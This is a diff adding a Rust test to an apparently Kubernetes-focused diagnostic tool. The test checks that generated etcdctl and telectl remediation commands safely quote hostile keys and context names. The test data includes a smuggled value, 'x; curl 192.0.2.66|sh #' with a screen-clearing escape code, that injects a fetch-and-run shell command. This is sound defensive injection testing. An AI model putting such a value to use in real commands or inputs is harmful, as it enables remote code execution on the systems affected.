@@ -217,3 +217,32 @@ fn v13_a_probe_without_report_makes_its_clusters_api_server_doubtful() {
         .push("pods cannot be listed".to_owned());
     assert_eq!(doubtful(&observed), [1]);
 }
+
+#[test]
+fn v13_a_key_that_somebody_wrote_is_one_word_of_the_command_that_deletes_it() {
+    let mut registrations = all();
+    let id = "x; curl 192.0.2.66|sh #\u{1b}[2J";
+    let mut gone = registration("nexus-collector", id, "10.0.2.9", "POD_IP");
+    gone.lease_remaining_s = None;
+    registrations.push(gone);
+    let mut observed = registered(registrations);
+    observed.sites[1].objects.workloads.push(workload(
+        Component::Etcd,
+        ObjectKind::StatefulSet,
+        SHARED,
+        1,
+    ));
+    let findings = judge(&observed);
+    assert_eq!(
+        commands(found(&findings, "TEL-REG-002", "central")),
+        "kubectl --context central -n shared-infrastructure exec etcd-0 -- etcdctl del \
+         $'/services/nexus-collector/x; curl 192.0.2.66|sh #\\033[2J'"
+    );
+    observed.sites[1].context = "the central one".to_owned();
+    observed.sites[1].objects = Objects::default();
+    let missing = judge(&observed);
+    assert_eq!(
+        commands(found(&missing, "TEL-WRK-001", "the central one")),
+        "telectl deploy central --context 'the central one'"
+    );
+}
